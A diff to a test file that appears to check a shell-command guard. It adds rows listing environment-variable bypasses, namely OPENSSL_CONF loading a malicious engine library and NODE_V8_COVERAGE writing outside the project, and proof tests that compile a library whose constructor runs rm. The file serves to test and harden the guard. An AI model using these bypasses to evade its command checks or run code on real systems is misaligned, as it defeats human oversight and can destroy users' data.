@@ -112,6 +112,21 @@ ROWS = [
         "UNZIP='-d {OUT}' unzip x.zip",
         bypass="UNZIP holds unzip's default options unchecked: -d extracts outside the project; `unzip x.zip -d OUT` itself is refused",
     ),
+    Row(
+        "env",
+        B,
+        ATTACK,
+        "OPENSSL_CONF=./evil.cnf openssl version",
+        bypass="OPENSSL_CONF names a config whose engine section dlopens a library (code runs like LD_PRELOAD); its constructor runs rm",
+    ),
+    Row(
+        "env",
+        B,
+        ATTACK,
+        "NODE_V8_COVERAGE={OUT} node -e 1",
+        bypass="NODE_V8_COVERAGE is a directory node writes coverage files into; outside the project it is not checked",
+    ),
+    Row("env", B, TWIN, "NODE_V8_COVERAGE=coverage node -e 1"),
     Row("env", B, TWIN, "iconv -f latin1 -t utf-8 README"),
     Row("env", B, TWIN, "GIT_PAGER=cat git log"),
     Row("env", B, TWIN, "CC=clang make"),
@@ -327,3 +342,26 @@ def test_proof_unzip_env_extracts_outside(scratch: tuple[Path, Path]) -> None:
     assert _run("zip -q x.zip a.txt", proj).returncode == 0
     _run(f"UNZIP='-d {out}' unzip -q x.zip", proj)
     assert (out / "a.txt").exists()
+
+
+def test_proof_openssl_conf_loads_a_library_that_runs_rm(scratch: tuple[Path, Path]) -> None:
+    if shutil.which("gcc") is None or shutil.which("openssl") is None:
+        pytest.skip("gcc or openssl is not installed")
+    proj, _ = scratch
+    (proj / "evil.c").write_text(
+        '#include <stdlib.h>\n__attribute__((constructor)) static void init(void) { system("rm -f notes.txt"); }\n'
+    )
+    assert _run("gcc -shared -fPIC -o evil.so evil.c", proj).returncode == 0
+    (proj / "evil.cnf").write_text(
+        f"openssl_conf = init\n[init]\nengines = eng\n[eng]\nevil = evil_sect\n[evil_sect]\ndynamic_path = {proj}/evil.so\n"
+    )
+    _run("OPENSSL_CONF=./evil.cnf openssl version", proj)
+    assert not (proj / "notes.txt").exists()
+
+
+def test_proof_node_v8_coverage_writes_outside(scratch: tuple[Path, Path]) -> None:
+    if shutil.which("node") is None:
+        pytest.skip("node is not installed")
+    proj, out = scratch
+    _run(f"NODE_V8_COVERAGE={out} node -e 1", proj)
+    assert any(out.glob("coverage-*.json"))
